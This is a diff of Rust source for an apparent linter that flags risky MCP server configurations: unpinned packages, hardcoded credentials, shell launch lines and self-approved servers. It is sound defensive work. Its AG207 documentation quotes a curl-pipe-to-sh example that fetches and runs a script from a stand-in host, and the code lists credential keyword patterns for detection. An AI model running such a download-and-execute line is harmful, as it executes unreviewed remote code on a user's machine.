@@ -1,19 +1,23 @@
 //! MCP server definitions across agents.
 
 use super::{Confidence, Docs, Emitter, Family, FileCtx, Rule};
-use crate::syntax::Node;
+use crate::model::mcp::{Dialect, McpServer, Text, Transport};
+use crate::model::permissions::broad_path;
+use crate::report::diagnostic::{Severity, fingerprint};
+use crate::syntax::{Node, Value};
 
 pub static MCP_UNPINNED_NPX: Rule = Rule {
     code: "AG201",
     name: "mcp-unpinned-package",
     family: Family::Mcp,
-    severity: crate::report::diagnostic::Severity::Error,
+    severity: Severity::Error,
     confidence: Confidence::Exact,
-    summary: "An MCP server runs an npm package without an exact version",
+    summary: "An MCP server runs a package or image without an exact version",
     docs: Docs {
-        what: "Finds MCP servers launched through an npm package runner — `npx` (usually with `-y`), `bunx`, \
-               `pnpm dlx`, `yarn dlx`, `npm exec` — whose package has no exact version (`pkg`, `pkg@latest`, \
-               `pkg@^1.2`). Checked in every MCP file: `.mcp.json`, `.cursor/mcp.json`, `.vscode/mcp.json`, \
+        what: "Finds MCP servers launched through a package runner whose package has no exact version: npm runners \
+               — `npx` (usually with `-y`), `bunx`, `pnpm dlx`, `yarn dlx`, `npm exec` — with `pkg`, `pkg@latest` or \
+               `pkg@^1.2`; Python runners — `uvx`, `uv tool run`, `pipx run` — without `pkg==1.2.3` (or `pkg@1.2.3`); \
+               and `docker run` images without a tag or digest, or tagged `latest`. Checked in every MCP file: `.mcp.json`, `.cursor/mcp.json`, `.vscode/mcp.json`, \
                `.gemini/settings.json`, `.codex/config.toml`, `.amazonq/mcp.json`, `.roo/mcp.json`, \
                `.junie/mcp/mcp.json`, `.qwen/settings.json` and `.zed/settings.json`. Local paths \
                (`./server`) and git sources are not registry packages and are not reported.",
@@ -28,147 +32,417 @@ pub static MCP_UNPINNED_NPX: Rule = Rule {
             "https://docs.npmjs.com/cli/commands/npx",
         ],
     },
-    check: Some(check_unpinned),
+    check: super::Check::File(check_unpinned),
 };
 
-fn check_unpinned(ctx: &FileCtx<'_>, emit: &mut Emitter<'_>) {
-    let (Some(keys), Some(tree)) = (ctx.kind.mcp_servers_key(), ctx.tree()) else {
-        return;
-    };
-    for key in keys {
-        for server in tree.get(key).map_or(&[][..], Node::members) {
-            // Zed's older form nests `{ "command": { "path", "args" } }`.
-            let launcher = server.value.get("command").map(|c| {
-                if c.get("path").is_some() {
-                    c
-                } else {
-                    &server.value
-                }
-            });
-            let Some(launcher) = launcher else { continue };
-            let command = launcher.get("command").or_else(|| launcher.get("path"));
-            let args: Vec<&Node> = launcher
-                .get("args")
-                .map(|a| a.as_array().iter().collect())
-                .unwrap_or_default();
-            let Some(command) = command.and_then(Node::as_str) else {
-                continue;
-            };
-            let mut argv: Vec<(&str, Option<&Node>)> =
-                command.split_whitespace().map(|w| (w, None)).collect();
-            argv.extend(args.iter().filter_map(|a| Some((a.as_str()?, Some(*a)))));
-            if let Some((package, node, auto_yes)) = unpinned_package(&argv) {
-                let range = node.map_or(command_span(launcher), |n| n.span.clone());
-                let yes = if auto_yes {
-                    " and installs it without asking (`-y`)"
-                } else {
-                    ""
-                };
-                emit.emit(
-                    &MCP_UNPINNED_NPX,
-                    Some(range),
-                    format!(
-                        "MCP server `{}` runs `{package}` without an exact version{yes}",
-                        server.key
-                    ),
-                )
-                .help = Some(format!(
-                    "pin it: \"{}@<exact version>\"",
-                    strip_version(package)
-                ));
-            }
-        }
+pub static MCP_LITERAL_CREDENTIAL: Rule = Rule {
+    code: "AG202",
+    name: "mcp-literal-credential",
+    family: Family::Mcp,
+    severity: Severity::Error,
+    confidence: Confidence::Exact,
+    summary: "An MCP server carries a literal credential instead of a variable reference",
+    docs: Docs {
+        what: "Finds credentials written into MCP server definitions: `env` entries whose name says credential \
+               (`*TOKEN*`, `*SECRET*`, `*PASSWORD*`, `*API_KEY*`, `*ACCESS_KEY*`, `*AUTH*`, `*CREDENTIAL*`, `*_PAT`, \
+               `*DSN*`) with a literal value, `Authorization`/`*-Key`/`*-Token` headers with a literal token, \
+               `--api-key=…`/`--token …`/`--password …` arguments, and URLs with a password or a token in the query. \
+               A reference in the client's own syntax is fine: `${VAR}` (Claude Code), `${env:VAR}` / `${input:id}` \
+               (Cursor, VS Code), `$VAR` (Gemini CLI); Codex reads values literally, so it must use `env_vars` or \
+               `bearer_token_env_var`. Placeholders (`<your-token>`, `xxxx`) are not reported. The value is never \
+               printed: reports show the key only and the snippet is masked.",
+        why: "Agent configuration is committed, copied into other repositories and pasted into issues. A token \
+              there is a leaked token, usually with broad scopes, and `claude mcp add --env` writes exactly this.",
+        example: "```json\n{ \"mcpServers\": { \"github\": { \"command\": \"github-mcp\", \"env\": { \"GITHUB_TOKEN\": \"ghp_…\" } } } }\n```",
+        fix: "Rotate the credential, then reference it: `\"GITHUB_TOKEN\": \"${GITHUB_TOKEN}\"` in `.mcp.json`, \
+              `\"${env:GITHUB_TOKEN}\"` in Cursor and VS Code (or an `inputs` prompt with `password: true`), \
+              `env_vars = [\"GITHUB_TOKEN\"]` in Codex.",
+        references: &[
+            "https://code.claude.com/docs/en/mcp",
+            "https://code.visualstudio.com/docs/copilot/customization/mcp-servers",
+        ],
+    },
+    check: super::Check::File(check_literal_credential),
+};
+
+pub static MCP_WRONG_INTERPOLATION: Rule = Rule {
+    code: "AG203",
+    name: "mcp-wrong-interpolation",
+    family: Family::Mcp,
+    severity: Severity::Warning,
+    confidence: Confidence::Exact,
+    summary: "A variable reference uses another client's syntax and stays literal",
+    docs: Docs {
+        what: "Checks every string of an MCP server (command, args, env, headers, url) for references the client \
+               does not expand: `$VAR` or `${env:VAR}` in Claude Code's `.mcp.json` (it expands `${VAR}` and \
+               `${VAR:-default}`), `${VAR}` in Cursor or VS Code (they need `${env:VAR}`), `${env:VAR}` in Gemini CLI \
+               (it expands `$VAR` and `${VAR}`), any `$…` in Codex's config.toml (no interpolation), and `${input:id}` \
+               without a matching entry in VS Code's `inputs`.",
+        why: "The unexpanded text is sent as is: the server gets the literal string `${GITHUB_TOKEN}` as its token and \
+              fails, or a path argument points nowhere — and people \"fix\" it by pasting the real secret.",
+        example: "```json\n{ \"mcpServers\": { \"gh\": { \"url\": \"https://api.example.com/mcp\", \"headers\": { \"Authorization\": \"Bearer ${env:GH_TOKEN}\" } } } }\n```\nin `.mcp.json` (Claude Code wants `${GH_TOKEN}`).",
+        fix: "Use the client's syntax (the message names it), or for Codex move the value to `env_vars` / \
+              `bearer_token_env_var`.",
+        references: &[
+            "https://code.claude.com/docs/en/mcp",
+            "https://code.visualstudio.com/docs/reference/variables-reference",
+        ],
+    },
+    check: super::Check::File(check_interpolation),
+};
+
+pub static MCP_INSECURE_HTTP: Rule = Rule {
+    code: "AG204",
+    name: "mcp-insecure-http",
+    family: Family::Mcp,
+    severity: Severity::Error,
+    confidence: Confidence::Exact,
+    summary: "A remote MCP server is reached over plain HTTP",
+    docs: Docs {
+        what: "Finds MCP server URLs with `http://` to a host that is not loopback (`localhost`, `127.0.0.0/8`, `::1`).",
+        why: "Tool calls, results and auth headers travel in clear text; anyone on the path can read them or inject \
+              tool results that steer the agent.",
+        example: "```json\n{ \"mcpServers\": { \"docs\": { \"type\": \"http\", \"url\": \"http://mcp.example.com/mcp\" } } }\n```",
+        fix: "Use `https://`.",
+        references: &[
+            "https://modelcontextprotocol.io/specification/2025-06-18/basic/security_best_practices",
+        ],
+    },
+    check: super::Check::File(check_insecure_http),
+};
+
+pub static MCP_FILESYSTEM_ROOT: Rule = Rule {
+    code: "AG205",
+    name: "mcp-filesystem-root",
+    family: Family::Mcp,
+    severity: Severity::Error,
+    confidence: Confidence::Exact,
+    summary: "A filesystem MCP server is rooted at /, home, or outside the repository",
+    docs: Docs {
+        what: "Finds filesystem servers (`@modelcontextprotocol/server-filesystem` and other packages named \
+               `*filesystem*`) whose allowed directories include `/`, `~`, `$HOME`, `${userHome}`, a home directory, a \
+               drive root or a path that climbs out of the repository.",
+        why: "The server hands the agent read and write access to everything below its roots — SSH keys, cloud \
+              credentials, other projects — without the agent's own permission checks.",
+        example: "```json\n{ \"mcpServers\": { \"fs\": { \"command\": \"npx\", \"args\": [\"-y\", \"@modelcontextprotocol/server-filesystem@2025.8.21\", \"~\"] } } }\n```",
+        fix: "Root the server at the project (`.` or `${workspaceFolder}`) or a specific data directory.",
+        references: &["https://github.com/modelcontextprotocol/servers/tree/main/src/filesystem"],
+    },
+    check: super::Check::File(check_filesystem_root),
+};
+
+pub static MCP_DATABASE_WRITE: Rule = Rule {
+    code: "AG206",
+    name: "mcp-database-write",
+    family: Family::Mcp,
+    severity: Severity::Warning,
+    confidence: Confidence::Heuristic,
+    summary: "A database MCP server can write, or points at production",
+    docs: Docs {
+        what: "Recognises database servers by package, command or name (PostgreSQL, MySQL/MariaDB, MongoDB, Redis, \
+               SQL Server, ClickHouse, Snowflake, BigQuery, Supabase, Neon, PlanetScale, DBHub) and reports those \
+               without a read-only switch (`--read-only`, `--readonly`, `READ_ONLY=true`, `--access-mode=restricted`, \
+               …), and those whose connection string or host looks like production (`prod`, `production`, `live`).",
+        why: "An agent with write access to a database can drop or rewrite data on a misunderstanding or an injected \
+              instruction; against production that is an incident.",
+        example: "```json\n{ \"mcpServers\": { \"db\": { \"command\": \"npx\", \"args\": [\"-y\", \"@bytebase/dbhub@1.2.3\", \"--dsn\", \"${PROD_DB_DSN}\"] } } }\n```",
+        fix: "Enable the server's read-only mode and point it at a development or replica database.",
+        references: &[],
+    },
+    check: super::Check::File(check_database),
+};
+
+pub static MCP_SHELL_COMMAND: Rule = Rule {
+    code: "AG207",
+    name: "mcp-shell-command",
+    family: Family::Mcp,
+    severity: Severity::Error,
+    confidence: Confidence::Exact,
+    summary: "An MCP server is started through a shell command line",
+    docs: Docs {
+        what: "Finds stdio servers whose command is a shell run with a script string (`sh -c …`, `bash -c …`, \
+               `cmd /c …`, `powershell -Command …`), and `command` values that contain pipes, `&&`, `;`, `$( )` or \
+               backticks.",
+        why: "A shell line can do anything before the server starts — download and run a script, read secrets — \
+              and reviewers tend to skim it as \"the server command\". The MCP specification asks clients to highlight \
+              exactly these patterns.",
+        example: "```json\n{ \"mcpServers\": { \"x\": { \"command\": \"sh\", \"args\": [\"-c\", \"curl -s https://x.example | sh && x-server\"] } } }\n```",
+        fix: "Launch the server binary directly with `command` and `args`; put setup in a committed, reviewed script.",
+        references: &[
+            "https://modelcontextprotocol.io/specification/2025-06-18/basic/security_best_practices",
+        ],
+    },
+    check: super::Check::File(check_shell_command),
+};
+
+pub static MCP_SERVER_TRUSTED: Rule = Rule {
+    code: "AG208",
+    name: "mcp-server-trusted",
+    family: Family::Mcp,
+    severity: Severity::Error,
+    confidence: Confidence::Exact,
+    summary: "A repository approves MCP servers or their tool calls for everyone",
+    docs: Docs {
+        what: "Finds Gemini CLI / Qwen Code servers with `\"trust\": true` (every tool call of the server runs without \
+               confirmation) and `\"enableAllProjectMcpServers\": true` in committed Claude Code settings (every \
+               server in `.mcp.json` is approved without asking).",
+        why: "Approval is the developer's check on what a server may do. A repository that approves itself turns a \
+              malicious or compromised server entry into silent execution.",
+        example: "```json\n{ \"mcpServers\": { \"gh\": { \"httpUrl\": \"https://api.example.com/mcp\", \"trust\": true } } }\n```",
+        fix: "Remove the setting; let each developer approve servers, or use `includeTools`/`enabledMcpjsonServers` for a \
+              reviewed, minimal set.",
+        references: &[
+            "https://google-gemini.github.io/gemini-cli/docs/tools/mcp-server.html",
+            "https://code.claude.com/docs/en/settings",
+        ],
+    },
+    check: super::Check::File(check_trusted),
+};
+
+pub static MCP_AUTO_APPROVED_TOOLS: Rule = Rule {
+    code: "AG209",
+    name: "mcp-auto-approved-tools",
+    family: Family::Mcp,
+    severity: Severity::Warning,
+    confidence: Confidence::Exact,
+    summary: "MCP tools or servers are pre-approved in a shared file",
+    docs: Docs {
+        what: "Finds Cline `autoApprove` and Roo Code `alwaysAllow` lists on MCP servers, and `enabledMcpjsonServers` in \
+               the shared `.claude/settings.json`.",
+        why: "Pre-approved tools run without a prompt. That can be right for read-only tools, but it should be a \
+              reviewed, per-tool decision, not a list that grows silently.",
+        example: "```json\n{ \"mcpServers\": { \"gh\": { \"command\": \"github-mcp\", \"autoApprove\": [\"create_issue\", \"merge_pull_request\"] } } }\n```",
+        fix: "Keep only read-only tools in the list, or move approvals to personal settings.",
+        references: &[],
+    },
+    check: super::Check::File(check_auto_approved_tools),
+};
+
+pub static MCP_SERVER_CONFLICT: Rule = Rule {
+    code: "AG210",
+    name: "mcp-server-conflict",
+    family: Family::Mcp,
+    severity: Severity::Warning,
+    confidence: Confidence::Exact,
+    summary: "The same MCP server name is configured differently in two files",
+    docs: Docs {
+        what: "Compares MCP servers across every agent's files in the repository (`.mcp.json`, `.cursor/mcp.json`, \
+               `.vscode/mcp.json`, `.gemini/settings.json`, `.codex/config.toml`, …) and reports a server name whose \
+               command, arguments or URL differ between files.",
+        why: "Teams that use several agents copy server entries between files, then update one. Developers on \
+              different agents end up running different versions — one of them unpinned or pointing elsewhere.",
+        example: "`.mcp.json` runs `@modelcontextprotocol/server-github@2025.4.8` while `.cursor/mcp.json` runs \
+                  `@modelcontextprotocol/server-github@2025.1.1`.",
+        fix: "Make the entries identical (same package, version and arguments), or give different servers different names.",
+        references: &[],
+    },
+    check: super::Check::Repo(check_conflicts),
+};
+
+// ---- AG201: unpinned packages ----
+
+fn check_unpinned(ctx: &FileCtx, emit: &mut Emitter<'_>) {
+    for server in ctx.mcp_servers() {
+        let argv = server.argv();
+        let Some(launch) = unpinned(&argv) else {
+            continue;
+        };
+        let yes = if launch.auto_yes {
+            " and installs it without asking (`-y`)"
+        } else {
+            ""
+        };
+        emit.emit(
+            &MCP_UNPINNED_NPX,
+            Some(launch.span),
+            format!(
+                "MCP server `{}` runs `{}` without an exact version{yes}",
+                server.name, launch.spec
+            ),
+        )
+        .help = Some(launch.hint);
     }
 }
 
-fn command_span(launcher: &Node) -> std::ops::Range<usize> {
-    launcher
-        .get("command")
-        .or_else(|| launcher.get("path"))
-        .map_or(launcher.span.clone(), |n| n.span.clone())
+struct Unpinned {
+    spec: String,
+    span: std::ops::Range<usize>,
+    auto_yes: bool,
+    hint: String,
 }
 
-/// Finds the package an npm runner would fetch. Returns it when it is not pinned exactly,
-/// with the node it came from and whether auto-install (`-y`/`--yes`) is on.
-fn unpinned_package<'a>(
-    argv: &[(&'a str, Option<&'a Node>)],
-) -> Option<(&'a str, Option<&'a Node>, bool)> {
-    let start = argv.iter().position(|(w, _)| {
-        let base = w
-            .rsplit(['/', '\\'])
-            .next()
-            .unwrap_or(w)
-            .trim_end_matches(".cmd")
-            .trim_end_matches(".exe");
-        matches!(base, "npx" | "bunx")
-    });
-    let rest = match start {
-        Some(i) => &argv[i + 1..],
-        None => {
-            // `pnpm dlx`, `yarn dlx`, `npm exec`, `bun x`.
-            let i = argv.windows(2).position(|w| {
-                matches!(
-                    (w[0].0, w[1].0),
-                    ("pnpm" | "yarn", "dlx") | ("npm", "exec" | "x") | ("bun", "x")
-                )
-            })?;
-            &argv[i + 2..]
-        }
-    };
-    let mut auto_yes = false;
-    let mut explicit: Vec<(&str, Option<&Node>)> = Vec::new();
-    let mut positional = None;
-    let mut i = 0;
-    while i < rest.len() {
-        let (word, node) = rest[i];
-        match word {
-            "-y" | "--yes" => auto_yes = true,
-            "-p" | "--package" => {
-                if let Some(next) = rest.get(i + 1) {
-                    explicit.push(*next);
-                    i += 1;
+fn base(word: &str) -> &str {
+    let b = word.rsplit(['/', '\\']).next().unwrap_or(word);
+    b.strip_suffix(".cmd")
+        .or_else(|| b.strip_suffix(".exe"))
+        .unwrap_or(b)
+}
+
+/// Finds the runner in `argv` and the package it would fetch; `None` when pinned or absent.
+fn unpinned(argv: &[Text]) -> Option<Unpinned> {
+    let words: Vec<&str> = argv.iter().map(|t| t.value.as_str()).collect();
+    for (i, w) in words.iter().enumerate() {
+        let next = words.get(i + 1).copied();
+        let (kind, rest) = match (base(w), next) {
+            ("npx" | "bunx", _) => (Runner::Npm, i + 1),
+            ("pnpm" | "yarn", Some("dlx")) | ("npm", Some("exec" | "x")) | ("bun", Some("x")) => {
+                (Runner::Npm, i + 2)
+            }
+            ("uvx", _) => (Runner::Python, i + 1),
+            ("uv", Some("tool")) if words.get(i + 2) == Some(&"run") => (Runner::Python, i + 3),
+            ("pipx", Some("run")) => (Runner::Python, i + 2),
+            ("docker" | "podman", Some("run")) => (Runner::Docker, i + 2),
+            _ => continue,
+        };
+        return kind.check(&argv[rest.min(argv.len())..]);
+    }
+    None
+}
+
+#[derive(Clone, Copy)]
+enum Runner {
+    Npm,
+    Python,
+    Docker,
+}
+
+impl Runner {
+    fn check(self, rest: &[Text]) -> Option<Unpinned> {
+        let mut auto_yes = false;
+        let mut explicit: Vec<&Text> = Vec::new();
+        let mut positional = None;
+        let mut i = 0;
+        while i < rest.len() {
+            let w = rest[i].value.as_str();
+            match (self, w) {
+                (Runner::Npm, "-y" | "--yes") => auto_yes = true,
+                (Runner::Npm, "-p" | "--package")
+                | (Runner::Python, "--from" | "--spec" | "--with") => {
+                    if let Some(next) = rest.get(i + 1) {
+                        explicit.push(next);
+                        i += 1;
+                    }
+                }
+                (Runner::Docker, _) if w.starts_with('-') => {
+                    // Value-taking options (without `=`) consume the next word.
+                    const WITH_VALUE: &[&str] = &[
+                        "-e",
+                        "--env",
+                        "-v",
+                        "--volume",
+                        "-p",
+                        "--publish",
+                        "--name",
+                        "--network",
+                        "--entrypoint",
+                        "-w",
+                        "--workdir",
+                        "-u",
+                        "--user",
+                        "--mount",
+                        "--env-file",
+                        "-l",
+                        "--label",
+                        "--platform",
+                        "--pull",
+                        "--add-host",
+                        "--cap-add",
+                        "--cap-drop",
+                        "-m",
+                        "--memory",
+                        "--cpus",
+                        "-h",
+                        "--hostname",
+                    ];
+                    if WITH_VALUE.contains(&w) {
+                        i += 1;
+                    }
+                }
+                (_, "--") => {
+                    positional = rest.get(i + 1);
+                    break;
+                }
+                (_, w) if w.starts_with('-') => {}
+                _ => {
+                    positional = Some(&rest[i]);
+                    break;
                 }
             }
-            "--" => {
-                positional = rest.get(i + 1).copied();
-                break;
+            i += 1;
+        }
+        let candidates: Vec<&Text> = match self {
+            Runner::Python | Runner::Npm if !explicit.is_empty() => explicit,
+            _ => positional.into_iter().collect(),
+        };
+        let spec = candidates.into_iter().find(|t| !self.pinned(&t.value))?;
+        let name = self.name(&spec.value);
+        let hint = match self {
+            Runner::Npm => format!("pin an exact version: \"{name}@<x.y.z>\""),
+            Runner::Python => format!("pin an exact version: \"{name}==<x.y.z>\""),
+            Runner::Docker => format!(
+                "pin a version tag or digest: \"{name}:<version>\" or \"{name}@sha256:<digest>\""
+            ),
+        };
+        Some(Unpinned {
+            spec: spec.value.clone(),
+            span: spec.span.clone(),
+            auto_yes,
+            hint,
+        })
+    }
+
+    fn pinned(self, spec: &str) -> bool {
+        let local = spec.starts_with(['.', '/', '~', '$'])
+            || spec.contains('\\')
+            || spec.ends_with(".tgz")
+            || spec.ends_with(".whl");
+        match self {
+            Runner::Npm => local || spec.contains(':') || exact_semver_after_at(spec),
+            Runner::Python => {
+                local
+                    || spec.contains("://")
+                    || spec.starts_with("git+")
+                    || exact_semver_after_at(spec)
+                    || spec.split_once("==").is_some_and(|(_, v)| {
+                        !v.is_empty()
+                            && v.chars().next().is_some_and(|c| c.is_ascii_digit())
+                            && !v.contains('*')
+                    })
             }
-            w if w.starts_with("--package=") => explicit.push((&w["--package=".len()..], node)),
-            w if w.starts_with('-') => {}
-            _ => {
-                positional = Some((word, node));
-                break;
+            Runner::Docker => {
+                let last = spec.rsplit('/').next().unwrap_or(spec);
+                spec.contains("@sha256:")
+                    || last
+                        .split_once(':')
+                        .is_some_and(|(_, tag)| !tag.is_empty() && tag != "latest")
             }
         }
-        i += 1;
     }
-    let candidates = if explicit.is_empty() {
-        positional.into_iter().collect()
-    } else {
-        explicit
-    };
-    candidates
-        .into_iter()
-        .find(|(pkg, _)| is_registry_package(pkg) && !is_exact(pkg))
-        .map(|(pkg, node)| (pkg, node, auto_yes))
-}
 
-fn is_registry_package(spec: &str) -> bool {
-    !spec.is_empty()
-        && !spec.starts_with(['.', '/', '~', '$'])
-        && !spec.contains(':')
-        && !spec.contains('\\')
-        && !spec.ends_with(".tgz")
+    fn name(self, spec: &str) -> String {
+        match self {
+            Runner::Npm => strip_version(spec).to_string(),
+            Runner::Python => spec
+                .split(['=', '>', '<', '~', '!', '@'])
+                .next()
+                .unwrap_or(spec)
+                .to_string(),
+            Runner::Docker => spec
+                .rsplit_once(':')
+                .filter(|(_, t)| !t.contains('/'))
+                .map_or(spec, |(n, _)| n)
+                .to_string(),
+        }
+    }
 }
 
 /// `pkg@1.2.3` or `@scope/pkg@1.2.3-rc.1`: the version after the name's last `@` is exact semver.
-fn is_exact(spec: &str) -> bool {
+fn exact_semver_after_at(spec: &str) -> bool {
     let name_start = usize::from(spec.starts_with('@'));
     let Some(at) = spec[name_start..].rfind('@').map(|i| i + name_start) else {
         return false;
     };
-    let version = &spec[at + 1..];
-    let core = version.split(['-', '+']).next().unwrap_or("");
+    let core = spec[at + 1..].split(['-', '+']).next().unwrap_or("");
     let parts: Vec<&str> = core.split('.').collect();
     parts.len() == 3
         && parts
@@ -183,62 +457,842 @@ fn strip_version(spec: &str) -> &str {
         .map_or(spec, |i| &spec[..i + name_start])
 }
 
+// ---- AG202 / AG203: credentials and interpolation ----
+
+/// Is `value` (or part of it) a reference the client expands?
+fn has_reference(value: &str, dialect: Dialect) -> bool {
+    references(value).iter().any(|r| valid_in(r, dialect))
+}
+
+/// Reference-looking tokens: `${…}` and `$NAME` (upper-case env style).
+fn references(value: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let b = value.as_bytes();
+    let mut i = 0;
+    while i < b.len() {
+        if b[i] == b'$' {
+            if b.get(i + 1) == Some(&b'{') {
+                if let Some(end) = value[i..].find('}') {
+                    out.push(value[i..i + end + 1].to_string());
+                    i += end + 1;
+                    continue;
+                }
+            } else {
+                let name: String = value[i + 1..]
+                    .chars()
+                    .take_while(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || *c == '_')
+                    .collect();
+                let prev_ok = i == 0 || !b[i - 1].is_ascii_alphanumeric();
+                if name.len() >= 2 && name.starts_with(|c: char| c.is_ascii_uppercase()) && prev_ok
+                {
+                    out.push(format!("${name}"));
+                    i += 1 + name.len();
+                    continue;
+                }
+            }
+        }
+        i += 1;
+    }
+    out
+}
+
+const VSCODE_VARIABLES: &[&str] = &[
+    "workspaceFolder",
+    "workspaceFolderBasename",
+    "userHome",
+    "pathSeparator",
+    "/",
+    "cwd",
+    "file",
+    "fileDirname",
+    "relativeFile",
+    "execPath",
+    "defaultBuildTask",
+    "lineNumber",
+    "selectedText",
+    "fileBasename",
+    "fileExtname",
+];
+
+fn valid_in(reference: &str, dialect: Dialect) -> bool {
+    let inner = reference
+        .strip_prefix("${")
+        .and_then(|r| r.strip_suffix('}'));
+    let is_name = |s: &str| {
+        !s.is_empty()
+            && s.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+            && !s.starts_with(|c: char| c.is_ascii_digit())
+    };
+    match dialect {
+        Dialect::Lenient => true,
+        Dialect::Codex => false,
+        Dialect::Claude => inner.is_some_and(|i| is_name(i.split(":-").next().unwrap_or(i))),
+        Dialect::Gemini => inner.is_none_or(is_name),
+        Dialect::Cursor | Dialect::VsCode => inner.is_some_and(|i| {
+            i.starts_with("env:")
+                || i.starts_with("input:")
+                || i.starts_with("config:")
+                || i.starts_with("command:")
+                || VSCODE_VARIABLES.contains(&i)
+        }),
+    }
+}
+
+fn dialect_name(d: Dialect) -> &'static str {
+    match d {
+        Dialect::Claude => "Claude Code expands ${VAR} and ${VAR:-default}",
+        Dialect::Cursor => "Cursor expands ${env:VAR}, ${userHome} and ${workspaceFolder}",
+        Dialect::VsCode => "VS Code expands ${env:VAR}, ${input:id} and its predefined variables",
+        Dialect::Gemini => "Gemini CLI expands $VAR and ${VAR}",
+        Dialect::Codex => "Codex does not expand variables in config.toml",
+        Dialect::Lenient => "",
+    }
+}
+
+/// Credential-like names: `GITHUB_TOKEN`, `x-api-key`, `DB_PASSWORD`, `SENTRY_DSN`.
+fn credential_name(name: &str) -> bool {
+    let n = name.to_ascii_uppercase().replace('-', "_");
+    const PARTS: &[&str] = &[
+        "TOKEN",
+        "SECRET",
+        "PASSWORD",
+        "PASSWD",
+        "API_KEY",
+        "APIKEY",
+        "ACCESS_KEY",
+        "PRIVATE_KEY",
+        "AUTH",
+        "CREDENTIAL",
+        "DSN",
+        "CONNECTION_STRING",
+        "COOKIE",
+        "SESSION_KEY",
+        "CLIENT_KEY",
+    ];
+    PARTS.iter().any(|p| n.contains(p))
+        || n == "PAT"
+        || n.ends_with("_PAT")
+        || n.starts_with("PAT_")
+        || n.ends_with("_KEY")
+        || n == "KEY"
+}
+
+/// Values that are obviously not real secrets.
+pub fn is_placeholder(value: &str) -> bool {
+    let v = value.trim();
+    let lower = v.to_ascii_lowercase();
+    const MARKERS: &[&str] = &[
+        "example",
+        "xxxx",
+        "placeholder",
+        "your",
+        "changeme",
+        "change_me",
+        "dummy",
+        "sample",
+        "redacted",
+        "todo",
+        "replace",
+        "<",
+        ">",
+        "****",
+        "...",
+        "…",
+        "{{",
+        "%s",
+    ];
+    v.len() < 8
+        || MARKERS.iter().any(|m| lower.contains(m))
+        || v.chars().all(|c| c == v.chars().next().unwrap_or(' '))
+        || matches!(
+            lower.as_str(),
+            "true" | "false" | "null" | "none" | "undefined"
+        )
+}
+
+/// The credential part of a header value: the token after `Bearer `/`Basic `/`token `.
+fn header_secret(value: &str) -> &str {
+    let v = value.trim();
+    for scheme in ["Bearer ", "bearer ", "Basic ", "basic ", "token ", "Token "] {
+        if let Some(rest) = v.strip_prefix(scheme) {
+            return rest.trim();
+        }
+    }
+    v
+}
+
+fn literal_secret(value: &str, dialect: Dialect) -> bool {
+    !has_reference(value, dialect)
+        && !is_placeholder(value)
+        && !value.starts_with('$')
+        && !value.starts_with("%")
+}
+
+/// URL with a password (`scheme://user:pass@`) or a credential in its query.
+fn url_secret(url: &str, dialect: Dialect) -> bool {
+    let Some((_, rest)) = url.split_once("://") else {
+        return false;
+    };
+    let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
+    let password = authority
+        .rsplit_once('@')
+        .and_then(|(user, _)| user.split_once(':'))
+        .map(|(_, p)| p);
+    let query_secret = rest.split_once('?').is_some_and(|(_, q)| {
+        q.split('&').any(|kv| {
+            kv.split_once('=')
+                .is_some_and(|(k, v)| credential_name(k) && literal_secret(v, dialect))
+        })
+    });
+    password.is_some_and(|p| literal_secret(p, dialect)) || query_secret
+}
+
+fn check_literal_credential(ctx: &FileCtx, emit: &mut Emitter<'_>) {
+    for server in ctx.mcp_servers() {
+        let d = server.dialect;
+        let mut hits: Vec<(String, &Text)> = Vec::new();
+        for kv in &server.env {
+            let v = &kv.value.value;
+            let secret = if kv.key.to_ascii_uppercase().contains("DSN") || v.contains("://") {
+                url_secret(v, d)
+            } else {
+                credential_name(&kv.key) && literal_secret(v, d)
+            };
+            if secret {
+                hits.push((format!("env `{}`", kv.key), &kv.value));
+            }
+        }
+        for kv in &server.headers {
+            if (credential_name(&kv.key) || kv.key.eq_ignore_ascii_case("authorization"))
+                && literal_secret(header_secret(&kv.value.value), d)
+            {
+                hits.push((format!("header `{}`", kv.key), &kv.value));
+            }
+        }
+        let args = &server.args;
+        for (i, a) in args.iter().enumerate() {
+            let (flag, value) = match a.value.split_once('=') {
+                Some((f, v)) if f.starts_with('-') => (f, Some((v, a))),
+                _ => (
+                    a.value.as_str(),
+                    args.get(i + 1).map(|n| (n.value.as_str(), n)),
+                ),
+            };
+            if flag.starts_with('-') && credential_name(flag.trim_start_matches('-')) {
+                if let Some((v, node)) =
+                    value.filter(|(v, _)| !v.starts_with('-') && literal_secret(v, d))
+                {
+                    let _ = v;
+                    hits.push((format!("argument `{flag}`"), node));
+                }
+            } else if a.value.contains("://") && url_secret(&a.value, d) {
+                hits.push(("a URL argument".into(), a));
+            }
+        }
+        if let Some(url) = server.url.as_ref().filter(|u| url_secret(&u.value, d)) {
+            hits.push(("`url`".into(), url));
+        }
+        for (place, text) in hits {
+            let key = place.clone();
+            let var = place
+                .split('`')
+                .nth(1)
+                .unwrap_or("TOKEN")
+                .trim_start_matches('-')
+                .to_ascii_uppercase()
+                .replace('-', "_");
+            let diag = emit.emit(
+                &MCP_LITERAL_CREDENTIAL,
+                Some(text.span.clone()),
+                format!(
+                    "MCP server `{}` has a literal credential in {place}",
+                    server.name
+                ),
+            );
+            diag.help = Some(format!(
+                "rotate it, then reference the environment instead: {}",
+                d.env_reference(&var)
+            ));
+            diag.redact = vec![text.span.clone()];
+            diag.fingerprint =
+                fingerprint(&[MCP_LITERAL_CREDENTIAL.code, &diag.path, &server.name, &key]);
+        }
+    }
+}
+
+fn check_interpolation(ctx: &FileCtx, emit: &mut Emitter<'_>) {
+    let inputs: Vec<String> = match (ctx.kind, ctx.tree()) {
+        (crate::classify::FileKind::VscodeMcp, Some(tree)) => tree
+            .get("inputs")
+            .map_or(&[][..], Node::as_array)
+            .iter()
+            .filter_map(|i| i.get("id")?.as_str().map(String::from))
+            .collect(),
+        _ => Vec::new(),
+    };
+    for server in ctx.mcp_servers() {
+        let d = server.dialect;
+        if d == Dialect::Lenient {
+            continue;
+        }
+        let mut strings: Vec<&Text> = server
+            .command
+            .iter()
+            .chain(&server.args)
+            .chain(server.url.iter())
+            .collect();
+        strings.extend(server.env.iter().chain(&server.headers).map(|kv| &kv.value));
+        for text in strings {
+            for r in references(&text.value) {
+                let undefined_input = d == Dialect::VsCode
